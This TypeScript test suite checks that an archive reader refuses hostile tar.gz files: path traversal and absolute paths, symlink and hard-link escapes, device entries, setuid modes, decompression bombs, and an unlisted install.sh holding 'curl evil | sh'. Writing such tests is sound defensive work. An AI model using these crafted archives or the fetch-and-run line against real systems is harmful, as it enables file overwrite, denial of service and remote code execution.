// Hostile archives, built with tar-stream directly: each is refused by readCapsule,
// verifyCapsule and extractCapsule, and extraction writes nothing anywhere.
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { createGzip, gzipSync } from 'node:zlib';
import { pack as tarPack } from 'tar-stream';
import type {
  CapsuleFormatErrorCode,
  Limits,
  VerificationProblem,
} from '../../src/domain/index.js';
import {
  buildCapsule,
  CapsuleFormatError,
  CapsuleVerificationError,
  ed25519Signer,
  extractCapsule,
  generateSigningKey,
  readCapsule,
  verifyCapsule,
} from '../../src/domain/index.js';
import type { RawEntry } from './helpers.js';
import { asRaw, rawTar, rawTarGz, todoInput } from './helpers.js';

const MiB = 1024 * 1024;
const key = generateSigningKey();
let valid: RawEntry[];
let tmp: string;

beforeAll(async () => {
  const built = await buildCapsule(todoInput(), ed25519Signer(key.privateKeyPem));
  valid = asRaw((await readCapsule(built.archive)).entries);
  tmp = await mkdtemp(path.join(os.tmpdir(), 'ql-capsule-hostile-'));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

/** A fresh directory for one case: extraction target inside, would-be escape targets beside it. */
async function caseDir(): Promise<string> {
  const dir = path.join(tmp, randomBytes(6).toString('hex'));
  await mkdir(dir);
  return dir;
}

/**
 * The archive is refused by all three entry points with `code` (naming `entry`), and extracting
 * it leaves no trace: neither the target nor any of `outside` exists afterwards.
 */
async function expectRefused(
  archive: Uint8Array,
  code: CapsuleFormatErrorCode,
  entry: string | undefined,
  dir: string,
  outside: string[] = [],
  limits?: Partial<Limits>,
): Promise<void> {
  const err = await readCapsule(archive, limits).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(CapsuleFormatError);
  expect((err as CapsuleFormatError).code).toBe(code);
  expect((err as CapsuleFormatError).entry).toBe(entry);

  const result = await verifyCapsule(archive, { trustedKeys: [key.publicKeyPem], limits });
  expect(result.ok).toBe(false);
  expect(result.problems).toHaveLength(1);
  expect(result.problems[0]!.message).toContain(code);

  const target = path.join(dir, 'target');
  await expect(extractCapsule(archive, target, limits)).rejects.toThrow(CapsuleVerificationError);
  expect(existsSync(target)).toBe(false);
  for (const p of outside) expect(existsSync(p)).toBe(false);
}

const withValid = (...hostile: RawEntry[]) => rawTarGz([...valid, ...hostile]);

describe('hostile archives', () => {
  it('refuses path traversal with ../', async () => {
    const dir = await caseDir();
    await expectRefused(
      await withValid({ name: '../escaped', data: 'x' }),
      'unsafe-path',
      '../escaped',
      dir,
      [path.join(dir, 'escaped')],
    );
    await expectRefused(
      await withValid({ name: 'project/../../escaped2', data: 'x' }),
      'unsafe-path',
      'project/../../escaped2',
      dir,
      [path.join(dir, 'escaped2')],
    );
  });

  it('refuses absolute paths and backslashes', async () => {
    const dir = await caseDir();
    const abs = path.join(dir, 'absolute-target');
    await expectRefused(await withValid({ name: abs, data: 'x' }), 'unsafe-path', abs, dir, [abs]);
    await expectRefused(
      await withValid({ name: '/etc/ql-capsule-test-x', data: 'x' }),
      'unsafe-path',
      '/etc/ql-capsule-test-x',
      dir,
      ['/etc/ql-capsule-test-x'],
    );
    await expectRefused(
      await withValid({ name: 'project\\..\\..\\escaped', data: 'x' }),
      'unsafe-path',
      'project\\..\\..\\escaped',
      dir,
      [path.join(dir, 'escaped')],
    );
  });

  it('refuses symlinks, including one a later entry would be written through', async () => {
    const dir = await caseDir();
    const outsideDir = path.join(dir, 'outside');
    await expectRefused(
      await rawTarGz([
        { name: 'project/evil', type: 'symlink', linkname: outsideDir },
        { name: 'project/evil/pwned', data: 'x' },
        ...valid,
      ]),
      'link-entry',
      'project/evil',
      dir,
      [outsideDir, path.join(outsideDir, 'pwned')],
    );
  });

  it('refuses hard links', async () => {
    const dir = await caseDir();
    await expectRefused(
      await withValid({ name: 'project/hl', type: 'link', linkname: '../../outside-file' }),
      'link-entry',
      'project/hl',
      dir,
      [path.join(dir, 'outside-file')],
    );
  });

  it('refuses devices, fifos and directories', async () => {
    const dir = await caseDir();
    await expectRefused(
      await withValid({ name: 'project/null', type: 'character-device', devmajor: 1, devminor: 3 }),
      'special-entry',
      'project/null',
      dir,
    );
    await expectRefused(
      await withValid({ name: 'project/disk', type: 'block-device', devmajor: 8, devminor: 0 }),
      'special-entry',
      'project/disk',
      dir,
    );
    await expectRefused(
      await withValid({ name: 'project/pipe', type: 'fifo' }),
      'special-entry',
      'project/pipe',
      dir,
    );
    await expectRefused(
      await withValid({ name: 'project/dir', type: 'directory', mode: 0o755 }),
      'special-entry',
      'project/dir',
      dir,
    );
  });

  it('refuses set-id modes', async () => {
    const dir = await caseDir();
    await expectRefused(
      await withValid({ name: 'project/suid', data: 'x', mode: 0o4755 }),
      'bad-mode',
      'project/suid',
      dir,
    );
  });

  it('refuses duplicate entries and names that differ only in case', async () => {
    const dir = await caseDir();
    await expectRefused(
      await withValid({ name: 'project/README.md', data: 'replaced' }),
      'duplicate-entry',
      'project/README.md',
      dir,
    );
    await expectRefused(
      await withValid({ name: 'project/readme.md', data: 'shadow' }),
      'duplicate-entry',
      'project/readme.md',
      dir,
    );
    await expectRefused(
      await withValid({ name: 'project/README.md/x', data: 'x' }),
      'path-conflict',
      'project/README.md/x',
      dir,
    );
  });

  it('refuses an entry declaring more than the per-entry limit, before reading its data', async () => {
    const dir = await caseDir();
    // Header of a 100 MiB entry followed by only 64 KiB: refused on the header alone.
    const pack = tarPack();
    const chunks: Buffer[] = [];
    pack.on('data', (c: unknown) => chunks.push(Buffer.from(c as Uint8Array)));
    const sink = pack.entry({ name: 'project/huge', size: 100 * MiB, mtime: new Date(0) });
    sink.write(Buffer.alloc(64 * 1024, 1));
    await new Promise((r) => setTimeout(r, 20));
    const head = Buffer.concat(chunks);
    pack.destroy();
    expect(head.byteLength).toBeGreaterThan(512);
    await expectRefused(
      new Uint8Array(gzipSync(Buffer.concat([await rawTar(valid.slice(0, 2)), head]))),
      'entry-too-large',
      'project/huge',
      dir,
    );
  });

  it('refuses an archive inflating beyond the total size limit (bomb by size)', async () => {
    const dir = await caseDir();
    const noise = (n: string) => ({ name: `project/${n}`, data: randomBytes(400 * 1024) });
    await expectRefused(
      await withValid(noise('a'), noise('b'), noise('c')),
      'total-too-large',
      'project/b',
      dir,
      [],
      { maxTotalBytes: MiB },
    );
  });

  it('refuses an archive inflating beyond the compression ratio limit (bomb by ratio)', async () => {
    const dir = await caseDir();
    // 4 x 60 MiB of zeros (each under the per-entry limit; ~240 KiB compressed), streamed: never
    // held in memory here, and refused by the reader long before it is all inflated.
    const size = 60 * MiB;
    const zeros = Buffer.alloc(MiB);
    const gz = createGzip();
    const out: Buffer[] = [];
    gz.on('data', (c: Buffer) => out.push(c));
    const ended = new Promise((r) => gz.on('end', r));
    const pack = tarPack();
    pack.pipe(gz);
    pack.entry({ name: 'capsule.json', mtime: new Date(0) }, Buffer.from('{}'));
    for (const name of ['project/zeros', 'project/zeros2', 'project/zeros3', 'project/zeros4']) {
      const sink = pack.entry({ name, size, mtime: new Date(0) });
      for (let written = 0; written < size; written += MiB) {
        if (!sink.write(zeros)) await new Promise<void>((r) => sink.once('drain', () => r()));
      }
      sink.end(undefined);
    }
    pack.finalize();
    await ended;
    const archive = new Uint8Array(Buffer.concat(out));
    expect(archive.byteLength).toBeLessThan((4 * size) / 500);

    const before = process.memoryUsage().rss;
    await expectRefused(archive, 'ratio-too-high', 'project/zeros', dir);
    // Refused after inflating ~100x the archive, not 240 MiB.
    expect(process.memoryUsage().rss - before).toBeLessThan(128 * MiB);
  });

  it('refuses too many entries', async () => {
    const dir = await caseDir();
    const archive = await rawTarGz(valid);
    expect(valid.length).toBeGreaterThan(10);
    await expectRefused(archive, 'too-many-entries', valid[10]!.name, dir, [], { maxEntries: 10 });
  });

  it("refuses what is not a gzip'd tar, a truncated archive, a missing or unreadable manifest", async () => {
    const dir = await caseDir();
    await expectRefused(new Uint8Array(await rawTar(valid)), 'not-gzip', undefined, dir);
    const full = await rawTarGz(valid);
    await expectRefused(full.subarray(0, full.byteLength - 100), 'corrupt', undefined, dir);
    const without = valid.filter((e) => e.name !== 'capsule.json');
    await expectRefused(await rawTarGz(without), 'missing-manifest', 'capsule.json', dir);
    await expectRefused(
      await rawTarGz([...without, { name: 'capsule.json', data: '{"formatVersion": 1' }]),
      'invalid-manifest',
      'capsule.json',
      dir,
    );
    await expectRefused(
      await rawTarGz([...without, { name: 'capsule.json', data: '{"formatVersion": 2}' }]),
      'unsupported-version',
      'capsule.json',
      dir,
    );
    await expectRefused(
      await rawTarGz(valid.filter((e) => e.name !== 'capsule.sig')),
      'missing-signature',
      'capsule.sig',
      dir,
    );
  });
});

describe('manifest and contents disagree', () => {
  async function expectProblem(archive: Uint8Array, problem: Partial<VerificationProblem>) {
    const dir = await caseDir();
    const result = await verifyCapsule(archive, { trustedKeys: [key.publicKeyPem] });
    expect(result.ok).toBe(false);
    expect(result.problems).toContainEqual(expect.objectContaining(problem));
    const target = path.join(dir, 'target');
    const err = await extractCapsule(archive, target).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(CapsuleVerificationError);
    expect((err as CapsuleVerificationError).problems).toContainEqual(
      expect.objectContaining(problem),
    );
    expect(existsSync(target)).toBe(false);
  }

  it('refuses a manifest listing an absent file', async () => {
    await expectProblem(await rawTarGz(valid.filter((e) => e.name !== 'project/Dockerfile')), {
      check: 'file-missing',
      file: 'project/Dockerfile',
    });
  });

  it('refuses a manifest omitting a present file', async () => {
    await expectProblem(await withValid({ name: 'project/.npmrc', data: 'registry=evil' }), {
      check: 'file-unlisted',
      file: 'project/.npmrc',
    });
    await expectProblem(await withValid({ name: 'install.sh', data: 'curl evil | sh' }), {
      check: 'file-unlisted',
      file: 'install.sh',
    });
  });
});
